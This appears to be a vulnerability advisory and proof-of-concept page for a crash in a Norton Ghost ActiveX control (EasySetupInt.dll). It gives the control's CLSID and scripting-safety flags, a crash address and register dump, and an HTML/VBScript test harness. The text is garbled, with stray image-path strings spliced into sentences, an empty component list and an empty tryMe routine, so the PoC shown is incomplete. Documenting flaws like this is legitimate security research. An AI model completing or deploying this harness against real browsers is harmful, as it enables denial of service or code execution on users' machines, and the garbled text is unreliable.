Norton Ghost Support module for EasySetup wizard Remote DoS/Arbitrary code execution(?)
 url: http://www.symantec.com/

 Author: shinnai
 mail: shinnai[at]autistici[dot]org
 site: http://www.shinnai.net/

 File:      EasySetupInt.dll
 ProgID:    Symantec.EasySetup.1
 Descr.:    CEasySetup Object - Support module for EasySetup wizard
 Marked as: RegKey Safe for Script: True
            RegKey Safe for Init: True
            Implements IObjectSafety: False
            KillBitSet: FalseBug info:  This component contains methods which lead into a denial of
            This is the list of components:


            Crash happens here:

            03A6B9D6   8B10             MOV EDX,DWORD PTR DS:[EAX]

            And registers risuation is:
            EAX 00000000
            ECX 774F9997 ole32.774F9997EDX 019DCB04
            EBX 00000000
            ESP 019DCAE4
            EBP 019DCB9C
            ESI 019DCCB8
            EDI 00000001
            EIP 03A6B9D6EasySetu.03A6B9D6

            Unfortunately the vulnerability seems to be unexploitable, anyway
            I've found a way to execute arbitrary code but it's useless
            because requires a high level of user interaction to work.
            That's why it will remain private.
            I hope that someone else will be able to exploit this vuln
            using more convenient ways.


 Thiswas written for educational purpose. Use it at your own risk.
 Author will be not responsible for any damage.

 Tested on Windows XP Professional SP3 with Internet Explorer 7
<objectclassid='clsid:7972D5BE-2213-4B28-884C-F8F82432EAA5' id='test'></object>

<input language=VBScript onclick=tryMe()type=button value='Click here tostart the test'>

<script language='vbscript'>
 Sub tryMe
 End Sub